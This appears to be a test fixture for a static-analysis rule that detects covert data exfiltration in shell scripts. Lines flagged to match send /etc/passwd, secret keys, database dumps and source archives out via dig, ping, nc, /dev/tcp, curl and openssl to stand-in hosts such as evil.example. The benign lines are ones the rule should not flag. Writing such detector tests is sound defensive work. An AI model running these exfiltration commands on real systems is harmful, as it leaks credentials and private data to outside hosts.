#!/bin/bash
# ruleid: shell/dns-or-covert-exfil
dig $(cat /etc/passwd | base64 | head -c 60).x.example
# ruleid: shell/dns-or-covert-exfil
ping -c1 $(whoami).x.example
# ruleid: shell/dns-or-covert-exfil
nslookup "$SECRET_KEY.x.example"
# ruleid: shell/dns-or-covert-exfil
cat data.db > /dev/tcp/203.0.113.9/80
# ruleid: shell/dns-or-covert-exfil
nc evil.example 4444 < dump.sql
# ruleid: shell/dns-or-covert-exfil
tar cz src | nc evil.example 9000
# ruleid: shell/dns-or-covert-exfil
curl "https://x.example/?d=$(cat notes.md | base64)"
# ruleid: shell/dns-or-covert-exfil
ping -p "$(xxd -p secrets.txt)" x.example
# ruleid: shell/dns-or-covert-exfil
cat a.tar | openssl s_client -connect x.example:443

# ok: shell/dns-or-covert-exfil
dig example.com
# ok: shell/dns-or-covert-exfil
ping -c 1 example.com
# ok: shell/dns-or-covert-exfil
nc -z db.example.com 5432
# ok: shell/dns-or-covert-exfil
(echo > /dev/tcp/localhost/5432) 2>/dev/null
# ok: shell/dns-or-covert-exfil
curl "https://api.example.com/v1/items?q=$(jq -rn --arg q x '$q|@uri')"
# ok: shell/dns-or-covert-exfil
host $DOMAIN
# ok: shell/dns-or-covert-exfil
curl "https://x.example/$(cat VERSION).tgz" -o a.tgz
# ok: shell/dns-or-covert-exfil
nc -l 8080
# ok: shell/dns-or-covert-exfil
curl "https://x.example/$(uname -s)" -o tool
